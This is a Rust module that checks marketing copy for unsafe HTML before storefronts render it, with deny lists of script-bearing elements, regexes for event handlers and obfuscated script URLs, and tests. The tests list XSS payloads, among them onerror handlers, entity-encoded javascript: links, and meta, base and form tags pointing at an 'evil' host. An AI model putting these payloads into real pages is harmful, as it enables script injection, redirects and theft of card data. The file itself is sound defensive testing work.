//! The markup check. Copy goes to storefronts, and some of them render it as HTML, so anything
//! a browser would run or act on is critical (the draft is rejected): script-bearing elements
//! (`script`, `iframe`, `object`, `embed`, `svg`, `math`, `style`, ...), elements that change the
//! page (`meta` refreshes, `base` redirects every link, `form` collects input), event-handler
//! attributes in any spelling (`<img/src=x/onerror=…>`, `<svg/onload=…>`, `"x"onerror=`), and
//! `javascript:` / `vbscript:` / `data:` URLs, also behind entities (`jav&#x61;script:`) or with
//! the tabs and newlines browsers strip. Text escaped one level (`&lt;script&gt;`) is checked
//! too, since a storefront that decodes before rendering would run it. Elements that load
//! outside resources or link elsewhere are medium (a human looks); other markup is low.

use std::sync::LazyLock;

use regex::Regex;

use super::{Draft, finding};
use crate::schema::{CheckResult, CheckSeverity};

fn re(pattern: &str) -> Regex {
    Regex::new(pattern).unwrap_or_else(|e| unreachable!("static regex: {e}"))
}

/// An element as browsers tokenise it: `<`, a letter, the name up to whitespace, `/` or `>`,
/// then the attributes up to `>` (or the end of the text: an unclosed tag still runs).
static TAG: LazyLock<Regex> = LazyLock::new(|| re(r"<(/?)([A-Za-z][^\s/>]*)([^>]*)(?:>|$)"));

/// An attribute named on… in the attribute text: after a separator browsers accept.
static HANDLER: LazyLock<Regex> = LazyLock::new(|| re(r#"(?i)(?:^|[\s/"'`])on[a-z]+\s*="#));

/// A script-capable URL scheme, after whitespace and control characters are removed.
static SCRIPT_URL: LazyLock<Regex> = LazyLock::new(|| re(r"(?i)(?:javascript|vbscript|livescript|data):"));

/// A script URL scheme in free text.
static SCRIPT_SCHEME: LazyLock<Regex> = LazyLock::new(|| re(r"(?i)(?:javascript|vbscript|livescript):"));

/// Elements that run code or act on the page by being there.
const DANGEROUS: &[&str] = &[
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "style", "link", "meta",
    "base", "form", "template", "xml", "import", "portal", "noscript", "isindex", "xss",
];

/// Elements that fetch something or send the reader elsewhere.
const OUTSIDE: &[&str] = &[
    "img", "image", "video", "audio", "source", "track", "picture", "a", "area", "input", "button", "select",
    "textarea", "marquee",
];

/// Entities decoded until nothing changes (bounded: every change shortens the text).
fn decoded(s: &str) -> String {
    let mut current = s.to_owned();
    for _ in 0..16 {
        let next = html_escape::decode_html_entities(&current).into_owned();
        if next == current {
            break;
        }
        current = next;
    }
    current
}

/// Without the whitespace and control characters a browser ignores inside a URL's scheme.
fn squeezed(s: &str) -> String {
    s.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect()
}

/// Why one element is dangerous, if it is, or whether it reaches outside.
fn judge(name: &str, attrs: &str) -> Option<(CheckSeverity, String)> {
    let name = name.to_ascii_lowercase();
    let attrs = decoded(attrs);
    if DANGEROUS.contains(&name.as_str()) {
        return Some((
            CheckSeverity::Critical,
            format!("a <{name}> element, which a browser would run or act on"),
        ));
    }
    if HANDLER.is_match(&attrs) {
        return Some((
            CheckSeverity::Critical,
            format!("an event-handler attribute on <{name}>, which runs script"),
        ));
    }
    if SCRIPT_URL.is_match(&squeezed(&attrs)) {
        return Some((CheckSeverity::Critical, format!("a script or data URL on <{name}>")));
    }
    if name.contains(':') || name.contains('-') {
        return Some((
            CheckSeverity::Medium,
            format!("a <{name}> element of another namespace or a custom element"),
        ));
    }
    OUTSIDE.contains(&name.as_str()).then(|| {
        (
            CheckSeverity::Medium,
            format!("a <{name}> element, which loads or links to something outside"),
        )
    })
}

/// A finding in the making: severity, message, span.
type Found = (CheckSeverity, String, Option<(usize, usize)>);

/// The worst finding of the elements of `text`, with its span when `spans`.
fn worst(text: &str, spans: bool) -> Option<Found> {
    let mut worst: Option<Found> = None;
    for c in TAG.captures_iter(text) {
        let (Some(all), Some(name)) = (c.get(0), c.get(2)) else {
            continue;
        };
        let closing = c.get(1).is_some_and(|m| !m.as_str().is_empty());
        let attrs = c.get(3).map_or("", |m| m.as_str());
        let verdict = if closing { None } else { judge(name.as_str(), attrs) };
        if let Some((severity, message)) = verdict {
            if worst.as_ref().is_none_or(|(s, _, _)| severity > *s) {
                worst = Some((severity, message, spans.then_some((all.start(), all.end()))));
            }
        }
    }
    worst
}

/// The markup check over a draft.
pub(super) fn markup(d: &Draft<'_>, out: &mut Vec<CheckResult>) {
    let text = d.text;
    if !text.contains('<') && !text.contains('&') && !text.to_ascii_lowercase().contains("script:") {
        return;
    }
    // The text as written, then as a decoding storefront would see it.
    let mut found = worst(text, true);
    let once = decoded(text);
    if once != text {
        if let Some((severity, message, _)) = worst(&once, false) {
            if found.as_ref().is_none_or(|(s, _, _)| severity > *s) {
                found = Some((severity, format!("{message} (once its entities are decoded)"), None));
            }
        }
    }
    // A script URL outside any tag, e.g. for a storefront that turns URLs into links ("data:"
    // alone is an ordinary word before a colon there, so only script schemes count).
    if found.as_ref().is_none_or(|(s, _, _)| *s < CheckSeverity::Critical) && SCRIPT_SCHEME.is_match(&squeezed(&once)) {
        let span = SCRIPT_SCHEME.find(text).map(|m| (m.start(), m.end()));
        found = Some((CheckSeverity::Critical, "a script URL".to_owned(), span));
    }
    match found {
        Some((severity, message, span)) => {
            out.push(finding("markup", severity, format!("unsafe markup: {message}"), span))
        }
        None if text.contains('<') => {
            let sanitised = ammonia::clean(text);
            if sanitised != text || crate::quality::normalize::strip_html(text) != text {
                let msg = "markup in a plain-text channel (or broken markup)".to_owned();
                out.push(finding("markup", CheckSeverity::Low, msg, None));
            }
        }
        None => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::schema::GeneratorKind;

    fn check(text: &str) -> Option<CheckResult> {
        let d = Draft {
            use_case: "product_description",
            text,
            title: None,
            product: None,
            locale: "en-US",
            generator: GeneratorKind::Model,
            id: "x",
            known_answers: &[],
        };
        let mut out = Vec::new();
        markup(&d, &mut out);
        out.pop()
    }

    /// Hardening probe: each of these was auto-approved with only a low finding.
    #[test]
    fn anything_a_browser_would_run_is_critical_in_any_spelling() {
        for text in [
            "Nice lamp <img/src=x/onerror=alert(1)>",
            "Nice lamp <svg/onload=alert(1)>",
            r#"Nice <a href="jav&#x61;script:alert(1)">lamp</a>"#,
            r#"Nice <a href="jav&#x09;ascript:alert(1)">lamp</a>"#,
            r#"<meta http-equiv="refresh" content="0;url=http://evil">"#,
            r#"<form action="http://evil"><input name=card></form>"#,
            r#"<base href="http://evil/">"#,
            r#"<img src="x"onerror="alert(1)">"#,
            "<IFRAME SRC=x>",
            "<object data=x>",
            "<script>alert(1)</script>",
            "<iframe src=x",
            r#"<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>"#,
            "Escaped once: &lt;script&gt;alert(1)&lt;/script&gt;",
            "Click javascript:alert(1) now",
            "<math><mi xlink:href=x>",
            "<details open ontoggle=alert(1)>",
        ] {
            let f = check(text).unwrap_or_else(|| panic!("no finding for {text}"));
            assert_eq!(f.severity, CheckSeverity::Critical, "{text}: {f:?}");
        }
    }

    #[test]
    fn outside_resources_are_medium_and_formatting_is_low() {
        let img = check("A lamp <img src=https://example.com/p.png>").unwrap();
        assert_eq!(img.severity, CheckSeverity::Medium);
        assert_eq!((img.span_start, img.span_end), (Some(7), Some(42)));
        assert_eq!(check("A <b>bold</b> lamp").unwrap().severity, CheckSeverity::Low);
        assert_eq!(check("Fish & chips, data: none"), None);
        assert_eq!(check("Plain copy about a lamp."), None);
    }
}
